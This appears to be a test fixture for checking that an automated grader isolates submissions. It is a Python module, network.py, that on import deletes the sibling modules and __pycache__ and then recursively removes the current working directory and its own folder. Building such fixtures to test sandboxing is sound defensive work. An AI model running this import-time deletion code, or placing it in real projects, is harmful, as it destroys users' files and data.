"""At import of network.py (after `from activations import ...` has run), deletes the
submission's own files: os.remove of the four modules and of __pycache__, then shutil.rmtree of
the current directory and of its own folder.

A grader that imports the modules one by one from the submission folder then finds losses.py
and gradients.py gone. A safe grader grades a scratch copy (the original submission is
untouched afterwards) and starts every child from a pristine copy, so nothing is lost; at most
the modules imported after network.py in the same child may be lost.

file: network.py
may_lose: mean_squared_error, cross_entropy_error, numerical_diff, numerical_gradient, gradient_descent
"""
import os
import shutil

_folder = os.path.dirname(os.path.abspath(__file__))
for _module in ("activations", "network", "losses", "gradients"):
    try:
        os.remove(os.path.join(_folder, f"{_module}.py"))
    except OSError:
        pass
shutil.rmtree(os.path.join(_folder, "__pycache__"), ignore_errors=True)
shutil.rmtree(os.getcwd(), ignore_errors=True)
shutil.rmtree(_folder, ignore_errors=True)
